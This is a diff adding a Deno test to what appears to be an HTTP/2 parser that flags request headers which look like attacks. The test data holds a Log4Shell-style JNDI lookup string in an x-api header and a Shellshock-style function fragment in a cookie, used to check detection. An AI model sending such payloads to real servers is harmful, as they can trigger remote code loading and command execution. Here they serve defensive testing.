@@ -164,6 +164,25 @@ Deno.test("a request over many segments is read whatever the segments, in one fr
   }
 });
 
+Deno.test("a header that tells of an attack is kept, of requests alone", () => {
+  const of = (...fields: Uint8Array[]) =>
+    read(bytes(preface, frame(settings, 0, bytes()), frame(headers, endHeaders, bytes(...fields)))).http;
+  const api = field("x-api", "1 ${jndi:ldap://x/a}"), cookie = field("cookie", 'a={"b":1}; c=() { x');
+  assertEquals(of(bytes(0x82, 0x84), api, cookie), [
+    { method: "GET", uri: "/", header: "x-api: 1 ${jndi:ldap://x/a}" },
+  ]);
+  assertEquals(of(bytes(0x82, 0x84), cookie), [{
+    method: "GET",
+    uri: "/",
+    header: 'cookie: a={"b":1}; c=() { x',
+  }]);
+  assertEquals(of(bytes(0x82, 0x84), field("cookie", 'a={"b":{"c":1}}; d=O\'Neil')), [{
+    method: "GET",
+    uri: "/",
+  }]);
+  assertEquals(of(bytes(0x88), api), [{ status: 200 }]);
+});
+
 Deno.test("what stands around a block is left out: padding, priority, the number of a pushed stream", () => {
   const asks = bytes(0x82, 0x84);
   const around = [
